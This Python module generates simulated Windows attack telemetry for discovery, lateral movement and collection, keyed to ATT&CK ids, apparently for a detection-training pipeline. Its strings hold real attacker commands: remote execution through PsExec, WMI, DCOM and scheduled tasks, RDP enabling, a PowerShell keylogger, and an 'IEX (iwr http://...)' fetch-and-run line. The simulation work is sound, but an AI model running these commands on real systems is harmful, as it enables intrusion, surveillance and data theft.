"""Simulated Windows attacks, part 3: discovery, lateral movement and collection.

Behaviour follows the public descriptions of the registered ATT&CK technique ids (ATT&CK pages,
Atomic Red Team tests, LOLBAS entries); every name, path and order is randomised.
"""

from __future__ import annotations

from pipeline.training.sim.catalog import Registry
from pipeline.training.sim.session import Session
from pipeline.training.sim.vocab import sys32
from pipeline.training.sim.win_attack1 import _download, _payload_path
from schemas.events import Platform

REG = Registry(Platform.WINDOWS)
add = REG.add

_DISCOVERY = (
    ("whoami.exe", "whoami"), ("whoami.exe", "whoami /all"), ("whoami.exe", "whoami /priv"), ("whoami.exe", "whoami /groups"),
    ("net.exe", "net user"), ("net.exe", "net user /domain"), ("net.exe", "net group \"domain admins\" /domain"),
    ("net.exe", "net localgroup administrators"), ("net.exe", "net group \"Domain Computers\" /domain"),
    ("net.exe", "net accounts"), ("net.exe", "net view"), ("net.exe", "net view /domain"), ("net.exe", "net share"),
    ("net.exe", "net session"), ("net.exe", "net use"), ("net.exe", "net config workstation"),
    ("nltest.exe", "nltest /dclist:"), ("nltest.exe", "nltest /domain_trusts /all_trusts"),
    ("ipconfig.exe", "ipconfig /all"), ("systeminfo.exe", "systeminfo"), ("tasklist.exe", "tasklist /v"),
    ("tasklist.exe", "tasklist /svc"), ("NETSTAT.EXE", "netstat -ano"), ("ARP.EXE", "arp -a"),
    ("ROUTE.EXE", "route print"), ("quser.exe", "quser"), ("HOSTNAME.EXE", "hostname"),
    ("nslookup.exe", "nslookup -type=SRV _ldap._tcp.dc._msdcs.{dom}"), ("wbem\\WMIC.exe", "wmic qfe list brief"),
    ("wbem\\WMIC.exe", "wmic /namespace:\\\\root\\securitycenter2 path antivirusproduct get displayname"),
    ("wbem\\WMIC.exe", "wmic computersystem get domain"), ("wbem\\WMIC.exe", "wmic process list brief"),
    ("reg.exe", "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\" /v ProductName"),
    ("netsh.exe", "netsh wlan show profiles"), ("netsh.exe", "netsh advfirewall firewall show rule name=all"),
    ("sc.exe", "sc query"), ("sc.exe", "sc query windefend"), ("cmdkey.exe", "cmdkey /list"),
    ("qwinsta.exe", "qwinsta"), ("fsutil.exe", "fsutil fsinfo drives"), ("klist.exe", "klist"),
    ("setspn.exe", "setspn -T {dom} -Q */*"), ("dsquery.exe", "dsquery computer -limit 0"),
    ("PING.EXE", "ping -n 1 {ip}"), ("nbtstat.exe", "nbtstat -A {ip}"),
)
_PS_DISCOVERY = (
    "Get-ADComputer -Filter * -Properties OperatingSystem", "Get-ADUser -Filter * -Properties *",
    "Get-ADGroupMember 'Domain Admins'", "Get-NetDomain", "Get-DomainGroup -Identity 'Domain Admins'",
    "Find-LocalAdminAccess", "Get-NetSession -ComputerName {host}", "Get-WmiObject Win32_ComputerSystem",
    "Get-CimInstance -Namespace root/SecurityCenter2 -ClassName AntivirusProduct", "Get-Process | Select Name,Id,Path",
    "Get-NetTCPConnection -State Established", "Get-LocalUser; Get-LocalGroupMember Administrators",
    "[System.DirectoryServices.ActiveDirectory.Domain]::GetCurrentDomain()", "Get-MpComputerStatus",
    "1..254 | % {{ Test-NetConnection -ComputerName 10.0.0.$_ -Port 445 -InformationLevel Quiet }}",
)


@add("T1087", "Discovery")
def discovery_burst(s: Session) -> None:
    """Hands-on-keyboard reconnaissance: several account/system/network discovery commands in a row."""
    r = s.r
    dom = r.token(4, 8) + r.pick((".local", ".corp", ".com", ".lan"))
    for exe, cmd in r.sample(_DISCOVERY, r.num(3, 9)):
        line = cmd.format(dom=dom, ip=r.int_ip())
        s.run(sys32(r, exe), line, via_shell=0.5)
        s.b.tick(0.5, 20.0)
    if r.chance(0.4):
        s.ps(r.pick(_PS_DISCOVERY).format(host=r.host()), encoded=0.2)


@add("T1087.002", "Discovery")
def ad_enumeration(s: Session) -> None:
    """Domain enumeration by a collector (SharpHound/AdFind/PowerView): many LDAP connections to a DC."""
    b, r = s.b, s.r
    dc = r.int_ip()
    if r.chance(0.5):
        tool = _payload_path(s)
        p = s.run(tool, r.pick((f"{tool} -c All --zipfilename {r.token()}.zip", f'{tool} -f "(objectcategory=person)" -csv',
                                f"{tool} -f (objectcategory=computer) name operatingSystem", f"{tool} --CollectionMethods Session,LoggedOn")))
    else:
        p = s.ps(r.pick(_PS_DISCOVERY).format(host=r.host()), encoded=0.4)
    for _ in range(r.num(3, 25)):
        b.connect(p, r.pick((dc, dc, r.int_ip())), r.pick((389, 389, 636, 3268, 445, 135)))
    if r.chance(0.5):
        b.create(p, f"{s.wdir()}\\{r.hexstr(14)}_{r.pick(('BloodHound', 'computers', 'users'))}.{r.pick(('zip', 'json', 'csv'))}")


@add("T1046", "Discovery")
def network_scan(s: Session) -> None:
    """A port scan / ping sweep: one process connects to many internal hosts and ports."""
    b, r = s.b, s.r
    tool = _payload_path(s)
    net = r.int_ip().rsplit(".", 1)[0]
    choice = r.rng.randrange(3)
    if choice == 0:
        p = s.run(tool, f"{tool} {net}.0/24 -p {r.pick(('445', '22,80,443,445,3389', '1-1024'))}")
    elif choice == 1:
        p = s.ps("1..254 | % { Test-NetConnection -ComputerName 10.0.0.$_ -Port 445 -InformationLevel Quiet }")
    else:
        p = s.cmd(f"for /L %i in (1,1,254) do ping -n 1 -w 100 {net}.%i")
    base = r.int_ip().rsplit(".", 1)[0]
    for _ in range(r.num(20, 80)):
        b.connect(p, f"{base}.{r.num(1, 254)}", r.pick((445, 22, 3389, 80, 135, 139, 5985)))


@add("T1518.001", "Discovery")
def security_software_discovery(s: Session) -> None:
    """Security products, Sysmon and the firewall are enumerated."""
    r = s.r
    for cmd in r.sample(("tasklist /v | findstr /i \"defender sysmon falcon sentinel carbon\"", "sc query sysmon64", "fltmc instances",
                         "wmic /namespace:\\\\root\\securitycenter2 path antivirusproduct get displayname",
                         "netsh advfirewall show allprofiles", "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows Defender\""), r.num(2, 4)):
        s.cmd(cmd)


# --- LateralMovement (TA0008) ------------------------------------------------------------------

@add("T1021.002", "LateralMovement")
def smb_admin_share_exec(s: Session) -> None:
    """A payload is copied to a remote admin share and started as a service (PsExec-style)."""
    b, r = s.b, s.r
    host, ip = r.host(), r.int_ip()
    payload = r.name("exe")
    s.run(sys32(r, "net.exe"), f"net use \\\\{host}\\{r.pick(('ADMIN$', 'C$', 'IPC$'))} /user:{r.token().upper()}\\{r.token()} {r.token(8, 12)}", via_shell=0.3)
    share = r.pick(("ADMIN$", "C$\\Windows\\Temp"))
    p = s.cmd(f"copy {_payload_path(s)} \\\\{host}\\{share}\\{payload}")
    b.connect(p, ip, 445)
    if r.chance(0.5):
        tool = f"{s.wdir()}\\{r.pick(('PsExec64.exe', 'PsExec.exe', 'paexec.exe', r.name('exe')))}"
        what = r.pick(("cmd.exe", "C:\\Windows\\" + payload, "powershell -enc " + r.b64(40, 120)))
        t = s.run(tool, f"{tool} \\\\{host} -accepteula -s {what}")
        b.connect(t, ip, 445)
        b.connect(t, ip, 135)
    else:
        svc = r.token(5, 9)
        t = s.run(sys32(r, "sc.exe"), f'sc \\\\{host} create {svc} binPath= "C:\\Windows\\{payload}" start= demand')
        s.run(sys32(r, "sc.exe"), f"sc \\\\{host} start {svc}")
        b.connect(t, ip, 445)


@add("T1021.006", "LateralMovement")
def winrm_exec(s: Session) -> None:
    """PowerShell remoting / winrs run commands on another host over WinRM (5985/5986)."""
    b, r = s.b, s.r
    host, ip = r.host(), r.int_ip()
    if r.chance(0.6):
        p = s.ps(r.pick((f"Invoke-Command -ComputerName {host} -ScriptBlock {{ {r.pick(('whoami', 'hostname', 'Get-Process', 'IEX (iwr http://' + r.domain() + '/a)'))} }}",
                         f"$s=New-PSSession -ComputerName {host};Invoke-Command -Session $s -FilePath {s.wdir()}\\{r.name('ps1')}",
                         f"Enter-PSSession -ComputerName {host} -Credential $cred")), encoded=0.3)
    else:
        p = s.run(sys32(r, "winrs.exe"), f"winrs -r:{host} {r.pick(('whoami', 'cmd /c ' + r.name('exe'), 'ipconfig'))}")
    b.connect(p, ip, r.pick((5985, 5986)))


@add("T1047", "LateralMovement")
def wmi_remote_exec(s: Session) -> None:
    """wmic /node: or Invoke-WmiMethod -ComputerName create a process on another host."""
    b, r = s.b, s.r
    host, ip = r.pick((r.host(), r.int_ip())), r.int_ip()
    what = r.pick(("cmd.exe /c " + r.name("bat"), "powershell -enc " + r.b64(40, 120), "C:\\Windows\\Temp\\" + r.name("exe")))
    cmd = r.pick((f'wmic /node:"{host}" process call create "{what}"',
                  f"wmic /node:{host} /user:{r.token()} /password:{r.token(8, 12)} process call create \"rundll32 C:\\Windows\\Temp\\{r.name('dll')},Start\""))
    if r.chance(0.7):
        p = s.run(sys32(r, "wbem\\WMIC.exe"), cmd, via_shell=0.3)
    else:
        p = s.ps(f"Invoke-WmiMethod -ComputerName {host} -Class Win32_Process -Name Create -ArgumentList '{r.name('exe')}'")
    b.connect(p, ip, 135)
    b.connect(p, ip, r.num(49152, 65535))


@add("T1021.003", "LateralMovement")
def dcom_exec(s: Session) -> None:
    """DCOM (MMC20.Application, ShellWindows, Excel) runs a command: source PowerShell, target's DCOM host spawns."""
    b, r = s.b, s.r
    host, ip = r.host(), r.int_ip()
    obj = r.pick(("MMC20.Application", "ShellWindows", "ShellBrowserWindow", "Excel.Application"))
    p = s.ps(f"$c=[activator]::CreateInstance([type]::GetTypeFromProgID('{obj}','{host}'));$c.Document.ActiveView.ExecuteShellCommand('cmd',$null,'/c {r.name('exe')}','7')", encoded=0.3)
    b.connect(p, ip, 135)
    if r.chance(0.5):
        host_proc = b.existing(r.pick((sys32(r, "mmc.exe"), r.case("C:\\Windows\\explorer.exe"), "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE")))
        s.run(sys32(r, "cmd.exe"), f"cmd.exe /c {r.name('exe')}", parent=host_proc)


@add("T1570", "LateralMovement")
def lateral_tool_transfer(s: Session) -> None:
    """Tools are pushed to several hosts' shares and started via a remote scheduled task."""
    b, r = s.b, s.r
    for _ in range(r.num(1, 4)):
        host, ip = r.host(), r.int_ip()
        payload = r.name(r.pick(("exe", "dll", "bat")))
        folder = r.pick(("Windows\\Temp", "ProgramData", "Users\\Public"))
        p = s.cmd(f"{r.pick(('copy', 'xcopy /y', 'robocopy'))} {_payload_path(s)} \\\\{host}\\C$\\{folder}\\{payload}")
        b.connect(p, ip, 445)
        t = s.run(sys32(r, "schtasks.exe"), f'schtasks /create /s {host} /tn {r.word()} /tr "C:\\ProgramData\\{payload}" /sc once /st 00:00 /ru system /f')
        s.run(sys32(r, "schtasks.exe"), f"schtasks /run /s {host} /tn {r.word()}")
        b.connect(t, ip, 135)


@add("T1021.001", "LateralMovement")
def rdp_pivot(s: Session) -> None:
    """RDP is enabled/used to pivot (mstsc to an internal host, tscon session hijack)."""
    b, r = s.b, s.r
    ip = r.int_ip()
    if r.chance(0.5):
        p = s.run(sys32(r, "reg.exe"), 'reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f', via_shell=0.3)
        b.reg(p, "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections", "fDenyTSConnections", "DWORD (0x00000000)")
    if r.chance(0.5):
        s.run(sys32(r, "tscon.exe"), f"tscon {r.num(1, 5)} /dest:{r.pick(('console', 'rdp-tcp#' + str(r.num(0, 9))))}", user="NT AUTHORITY\\SYSTEM")
    p = s.run(sys32(r, "mstsc.exe"), f"mstsc.exe /v:{r.pick((ip, r.host()))}{r.pick(('', ' /admin', ' /restrictedAdmin'))}")
    b.connect(p, ip, 3389)


# --- Collection (TA0009) -----------------------------------------------------------------------

def _docs(s: Session, n: int) -> list[str]:
    r = s.r
    base = r.pick((f"C:\\Users\\{s.user}\\Documents", f"C:\\Users\\{s.user}\\Desktop", f"\\\\{r.host()}\\{r.pick(('Finance', 'HR', 'Shared', 'Projects'))}", "D:\\Shares"))
    return [f"{base}\\{r.name(r.pick(('docx', 'xlsx', 'pdf', 'pptx', 'txt', 'csv', 'msg', 'kdbx')))}" for _ in range(n)]


@add("T1560.001", "Collection")
def archive_collected(s: Session) -> None:
    """Documents are gathered into a (password-protected) archive in a staging folder."""
    b, r = s.b, s.r
    stage = s.wdir()
    archive = f"{stage}\\{r.name(r.pick(('zip', '7z', 'rar')))}"
    tool = r.pick(("C:\\Program Files\\7-Zip\\7z.exe", f"{stage}\\7za.exe", "C:\\Program Files\\WinRAR\\rar.exe", f"{stage}\\{r.name('exe')}", "ps"))
    if tool == "ps":
        p = s.ps(f"Compress-Archive -Path C:\\Users\\{s.user}\\Documents\\* -DestinationPath {archive} -Force")
    elif "rar" in tool.lower():
        p = s.run(tool, f'"{tool}" a -r -hp{r.token(6, 12)} {archive} C:\\Users\\{s.user}\\Documents\\*.*')
    else:
        source = r.pick(("C:\\Users\\" + s.user + "\\Documents\\*", "*.docx *.xlsx *.pdf", "\\\\" + r.host() + "\\Finance\\*"))
        p = s.run(tool, f'"{tool}" a {r.pick(("-tzip", "-t7z", ""))} {r.pick(("-p" + r.token(6, 12), ""))} -r {archive} {source}'.replace("  ", " "))
    b.create(p, archive)
    b.write(p, archive, r.num(100_000, 900_000_000))


@add("T1005", "Collection")
def local_data_staging(s: Session) -> None:
    """Files of interest are searched for and copied to a staging folder (xcopy/robocopy/Get-ChildItem)."""
    b, r = s.b, s.r
    stage = f"{s.wdir()}\\{r.token(2, 6)}"
    ext = r.sample(("*.docx", "*.xlsx", "*.pdf", "*.pst", "*.kdbx", "*.txt", "*.csv"), r.num(1, 4))
    if r.chance(0.5):
        p = s.cmd(f"{r.pick(('robocopy', 'xcopy'))} C:\\Users {stage} {' '.join(ext)} /s{r.pick(('', ' /c /y', ' /mt:16'))}")
    else:
        p = s.ps(f"Get-ChildItem C:\\Users -Recurse -Include {','.join(ext)} -ErrorAction SilentlyContinue | Copy-Item -Destination {stage}")
    for doc in _docs(s, r.num(5, 25)):
        b.create(p, f"{stage}\\{doc.rsplit(chr(92), 1)[1]}")


@add("T1113", "Collection")
def screen_capture(s: Session) -> None:
    """Screenshots are taken repeatedly and written as images (CopyFromScreen, a capture tool)."""
    b, r = s.b, s.r
    out = s.wdir()
    if r.chance(0.6):
        p = s.ps(f"Add-Type -AssemblyName System.Windows.Forms;$b=New-Object Drawing.Bitmap 1920,1080;[Drawing.Graphics]::FromImage($b).CopyFromScreen(0,0,0,0,$b.Size);$b.Save('{out}\\{r.name('png')}')", encoded=0.4)
    else:
        tool = _payload_path(s)
        p = s.run(tool, f"{tool} {r.pick(('screenshot', '-s', '--interval 30'))}")
    for _ in range(r.num(1, 15)):
        b.create(p, f"{out}\\{r.pick(('scr', 'img', 'cap', r.token()))}_{r.num(1, 9999)}.{r.pick(('png', 'jpg', 'bmp'))}")
        b.tick(1, 30)


@add("T1115", "Collection")
def clipboard_and_keys(s: Session) -> None:
    """Clipboard contents and keystrokes are captured to a file (Get-Clipboard, GetAsyncKeyState)."""
    b, r = s.b, s.r
    log = f"{s.wdir()}\\{r.name(r.pick(('log', 'txt', 'dat')))}"
    script = r.pick((f"while($true){{Get-Clipboard | Out-File -Append {log}; Start-Sleep 5}}",
                     f"$sig='[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int k);';Add-Type -MemberDefinition $sig -Name K -Namespace W; while(1){{ 8..190 | % {{ if([W.K]::GetAsyncKeyState($_) -eq -32767){{ [char]$_ | Out-File -Append {log} }} }} }}"))
    p = s.ps(script, encoded=0.5)
    for _ in range(r.num(2, 12)):
        b.write(p, log, r.num(10, 400))
        b.tick(2, 40)


@add("T1123", "Collection")
def audio_capture(s: Session) -> None:
    """The microphone is recorded: the capability consent store is touched and audio files written."""
    b, r = s.b, s.r
    if r.chance(0.5):
        tool = _payload_path(s)
        proc = s.run(tool, f'"{tool}"')
    else:
        proc = s.ps("Get-MicrophoneAudio -Path $env:TEMP\\a.wav -Length 30", encoded=0.4)
    exe = proc.image.replace("\\", "#")
    base = f"HKU\\S-1-5-21-{r.num(10**9, 4 * 10**9)}-{r.num(1000, 9999)}\\Software\\Microsoft\\Windows\\CurrentVersion\\CapabilityAccessManager\\ConsentStore\\microphone\\NonPackaged\\{exe}"
    b.reg(proc, f"{base}\\LastUsedTimeStart", "LastUsedTimeStart", f"QWORD (0x{r.hexstr(8)}-0x{r.hexstr(8)})")
    b.load(proc, sys32(r, r.pick(("AudioSes.dll", "MMDevAPI.dll"))))
    b.tick(5, 60)
    b.reg(proc, f"{base}\\LastUsedTimeStop", "LastUsedTimeStop", f"QWORD (0x{r.hexstr(8)}-0x{r.hexstr(8)})")
    b.create(proc, f"{s.wdir()}\\{r.name(r.pick(('wav', 'mp3', 'dat')))}")


@add("T1114.001", "Collection")
def email_collection(s: Session) -> None:
    """Local mailboxes (.pst/.ost) are located and copied out of Outlook's folder."""
    b, r = s.b, s.r
    stage = s.wdir()
    p = s.cmd(r.pick((f"dir /s /b C:\\Users\\*.pst C:\\Users\\*.ost > {stage}\\{r.name('txt')}",
                      f"copy C:\\Users\\{s.user}\\AppData\\Local\\Microsoft\\Outlook\\*.ost {stage}")))
    for _ in range(r.num(1, 3)):
        b.create(p, f"{stage}\\{r.token()}.{r.pick(('pst', 'ost'))}")
    if r.chance(0.4):
        _download(s, f"{stage}\\{r.name('exe')}")
